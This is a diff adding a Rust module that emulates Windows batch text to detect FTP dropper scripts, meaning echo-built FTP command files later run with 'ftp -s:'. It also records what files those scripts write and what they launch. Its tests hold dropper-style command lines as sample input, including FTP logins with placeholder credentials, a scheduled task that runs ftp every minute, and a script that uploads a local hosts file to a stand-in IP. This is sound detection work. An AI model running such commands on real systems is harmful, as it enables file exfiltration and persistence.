@@ -1,0 +1,212 @@
+//! Reads one text: is it a script, what does it write, what does it start?
+
+use super::client::switches;
+use super::reading::{Confidence, Feed, Form, Provenance, TextReading, Written};
+use super::sniff;
+use super::writer::batch::{Emulator, Origin, Outcome, VirtualFile};
+use super::writer::command_lines;
+use crate::base::limits::Limits;
+use crate::base::text::Text;
+
+/// All that a text says of FTP; nothing where it says nothing.
+#[must_use]
+pub fn read(text: &Text, origin: Origin<'_>, limits: &Limits) -> Option<TextReading> {
+    let is_script = sniff::confidence(text);
+    let lines = || text.lines().map(|line| (line.number, line.text));
+    let is_batch = command_lines::is_batch(text.lines().map(|line| line.text));
+    let outcome = if !may_hold_commands(&text.content) {
+        Outcome::default()
+    } else if is_batch {
+        Emulator::new(lines().collect(), origin, limits).run_file()
+    } else {
+        let quoted = command_lines::of(lines());
+        let borrowed = quoted.iter().map(|(number, line)| (*number, line.as_str())).collect();
+        Emulator::new(borrowed, origin, limits).run_command_lines()
+    };
+    let Outcome { fed, left, mut launches, runs, diagnostics } = outcome;
+    launches.extend(commented_out(lines()).map(|launch| (launch, Feed::Elsewhere)));
+    let mut written: Vec<Written> = fed.iter().map(|file| written(file, Confidence::Certain)).collect();
+    written.extend(left.iter().filter_map(|file| {
+        let mut candidate = written_text(file);
+        candidate.confidence = sniff::confidence(&candidate.text)?;
+        Some(candidate)
+    }));
+    if is_script.is_none() && written.is_empty() && launches.is_empty() {
+        return None;
+    }
+    let itself = launches.iter().any(|(_, feed)| *feed == Feed::Itself);
+    let form = match (written.is_empty() && launches.is_empty(), is_batch || itself) {
+        (true, _) => Form::FtpScript,
+        (false, true) => Form::Batch,
+        (false, false) => Form::Text,
+    };
+    let is_script = if itself { Some(Confidence::Certain) } else { is_script };
+    Some(TextReading { form, is_script, written, launches, runs, diagnostics })
+}
+
+/// A cheap look before the emulation: it takes a word that writes or one that starts.
+fn may_hold_commands(content: &str) -> bool {
+    let bytes = content.as_bytes();
+    let holds = |word: &[u8]| bytes.windows(word.len()).any(|window| window.eq_ignore_ascii_case(word));
+    holds(b"ftp") || holds(b"echo")
+}
+
+fn written(file: &VirtualFile, confidence: Confidence) -> Written {
+    Written { confidence, ..written_text(file) }
+}
+
+/// The file as a text, each line with the line of the writer that begins it.
+fn written_text(file: &VirtualFile) -> Written {
+    let mut provenance: Vec<Provenance> = Vec::new();
+    let (mut line, mut at_start) = (1u32, true);
+    for (piece, written_by_line) in &file.pieces {
+        for part in piece.split_inclusive('\n') {
+            if at_start {
+                provenance.push(Provenance { line, written_by_line: *written_by_line });
+            }
+            at_start = part.ends_with('\n');
+            if at_start {
+                line = line.saturating_add(1);
+            }
+        }
+    }
+    let content = file.content();
+    let first = file.pieces.first().map_or(0, |(_, line)| *line);
+    Written {
+        path: (!file.path.is_empty()).then(|| file.path.clone()),
+        working_directory: file.directory.clone(),
+        unresolved: super::writer::batch::unresolved(&content),
+        text: Text::from_content(content),
+        provenance,
+        line: first,
+        confidence: Confidence::Possible,
+        active: true,
+    }
+}
+
+/// Launches in remarks: they were meant once, and never run as the text stands.
+fn commented_out<'a>(lines: impl Iterator<Item = (u32, &'a str)>) -> impl Iterator<Item = super::launch::Launch> {
+    lines.filter_map(|(number, line)| {
+        let line = line.trim_start().trim_start_matches('@');
+        let remark = match line.split_at_checked(4) {
+            Some((word, rest)) if word.eq_ignore_ascii_case("rem ") => rest,
+            _ => line.strip_prefix("::")?,
+        };
+        let mut launch = switches::launch(remark.trim_start().trim_start_matches('@'))?;
+        launch.script_path.as_ref()?;
+        launch.would_run = false;
+        launch.note = Some("commented out".to_owned());
+        launch.found_in.line = Some(number);
+        Some(launch)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::script::client::{self, world::Unknown};
+    use crate::script::launch::Switches;
+
+    fn read_text(text: &str) -> TextReading {
+        let origin = Origin { directory: Some("C:\\w"), name: "a.bat" };
+        read(&Text::from_content(text), origin, &Limits::default()).expect("says something")
+    }
+
+    /// What comes out of a dropper: its files' content, each with the letter of a launch's feed.
+    fn scripts(text: &str) -> Vec<String> {
+        read_text(text).written.iter().map(|written| written.text.content.replace("\r\n", "|")).collect()
+    }
+
+    #[test]
+    fn droppers_leave_these_bytes() {
+        let cases: [(&str, &[&str]); 15] = [
+            (
+                "echo open 192.0.2.10 21>a.txt&echo user bob s3cret>>a.txt&echo bye>>a.txt&ftp -n -s:a.txt&del a.txt",
+                &["open 192.0.2.10 21|user bob s3cret|bye|"],
+            ),
+            ("echo open h.x > f\necho anonymous >> f\nftp -s:f", &["open h.x |anonymous |"]),
+            ("echo open h.x>x&echo user bob 1>>x&echo s3cret>>x&ftp -n -s:x", &["open h.x|user bob |s3cret|"]),
+            (
+                "(echo open h.x 2121&echo bob&echo pw1)>%TEMP%\\t.txt&ftp -i -s:%TEMP%\\t.txt",
+                &["open h.x 2121|bob|pw1|"],
+            ),
+            (">s.dat echo open h.x\n>>s.dat echo p^&w\nftp -s:s.dat", &["open h.x|p&w|"]),
+            ("echo open h.x>k&echo.>>k&echo.>>k&<nul set /p=bye>>k&ftp -s:k", &["open h.x|||bye"]),
+            (
+                "set H=203.0.113.5&set F=%TEMP%\\~t.tmp\necho open %H%>%F%\necho user %U% x>>%F%\nftp -n -s:%F%",
+                &["open 203.0.113.5|user %U% x|"],
+            ),
+            ("@echo off\n(\necho open h.x\necho bob\n) > %TEMP%\\s.ftp\nftp.exe -s:%TEMP%\\s.ftp", &["open h.x|bob|"]),
+            ("(echo open h.x&echo bye)|ftp -n", &["open h.x|bye|"]),
+            ("echo open h.x>a\ntype a|ftp -n", &["open h.x|"]),
+            ("echo open h.x>a\necho bye>b\ncopy a+b c\nftp -s:c", &["open h.x|bye|"]),
+            ("cmd /c \"echo open h.x>a&echo bye>>a&ftp -s:a\"", &["open h.x|bye|"]),
+            ("call :gen > f\nftp -s:f\nexit /b\n:gen\necho open h.x\necho bye\nexit /b", &["open h.x|bye|"]),
+            ("for %%f in (a b) do echo get %%f>>s\nftp -s:s", &["get a|get b|"]),
+            ("if exist q (echo open h.x>a) else echo open g.x>a\necho bye>>a\nftp -s:a", &["open g.x|bye|"]),
+        ];
+        for (text, expected) in cases {
+            assert_eq!(scripts(text), expected, "{text}");
+        }
+    }
+
+    #[test]
+    fn launches_know_what_they_are_fed() {
+        let cases = [
+            ("@ftp -i -s:\"%~f0\"&GOTO:EOF\nopen h.x\nbob\npw\nget a\nbye", Feed::Itself),
+            ("ftp -s:C:\\x\\gone.txt", Feed::Elsewhere),
+            ("echo bye>a&ftp -s:a", Feed::Written(0)),
+            ("start /min ftp /s:FTP.txt /A", Feed::Elsewhere),
+            (
+                "schtasks /create /tn U /tr \"powershell -c \\\"ftp -A -s:'C:\\P\\ftp.txt'\\\"\" /sc minute",
+                Feed::Elsewhere,
+            ),
+        ];
+        for (text, feed) in cases {
+            let reading = read_text(text);
+            assert_eq!(reading.launches.iter().map(|(_, feed)| *feed).collect::<Vec<_>>(), [feed], "{text}");
+        }
+        let task =
+            read_text("schtasks /create /tn U /tr \"powershell -c \\\"ftp -A -s:'C:\\P\\ftp.txt'\\\"\" /sc minute");
+        assert_eq!(task.launches[0].0.script_path.as_deref(), Some("C:\\P\\ftp.txt"));
+        let remark = read_text("rem ftp -n -s:a.txt");
+        assert!(!remark.launches[0].0.would_run);
+    }
+
+    #[test]
+    fn the_working_directory_is_followed() {
+        let reading = read_text("cd /d C:\\Windows\\Temp\necho bye>t\nftp -s:t\nstart p.exe");
+        assert_eq!(reading.written[0].working_directory.as_deref(), Some("C:\\Windows\\Temp"));
+        assert_eq!(reading.launches[0].0.working_directory.as_deref(), Some("C:\\Windows\\Temp"));
+        assert_eq!(reading.runs[0].command_line, "p.exe");
+    }
+
+    #[test]
+    fn provenance_names_the_writing_line() {
+        let reading = read_text("@echo off\necho open h.x>a\n(echo bob\necho pw)>>a\nftp -s:a");
+        let lines: Vec<_> = reading.written[0].provenance.iter().map(|p| (p.line, p.written_by_line)).collect();
+        assert_eq!(lines, [(1, 2), (2, 3), (3, 4)]);
+    }
+
+    #[test]
+    fn endless_loops_and_growth_end() {
+        let growth = format!("echo x>a\n{}ftp -s:a", "type a>>a\n".repeat(60));
+        for text in [":a\necho x>>f\ngoto a\nftp -s:f", "set a=x\nset a=%a%%a%\n", growth.as_str()] {
+            let _ = read(&Text::from_content(text), Origin::default(), &Limits::default());
+        }
+    }
+
+    #[test]
+    fn a_dropped_script_runs_like_any_other() {
+        let reading = read_text(
+            "echo open 192.0.2.13>c&echo USER anonymous>>c&echo binary>>c&echo PUT c:\\x\\hosts>>c&echo bye>>c&ftp -v -n -s:c",
+        );
+        let switches = Switches { no_auto_login: true, ..Switches::default() };
+        let run =
+            client::interpret(&reading.written[0].text, Default::default(), &switches, &Unknown, &Limits::default());
+        let session = &run.sessions[0];
+        assert_eq!(session.credentials[0].password.as_ref().map(|p| p.reveal()), Some("binary"));
+        assert_eq!(session.transfers[0].remote_path.as_deref(), Some("hosts"));
+        assert_eq!(session.transfers[0].mode, crate::script::transfer::Mode::Ascii);
+    }
+}
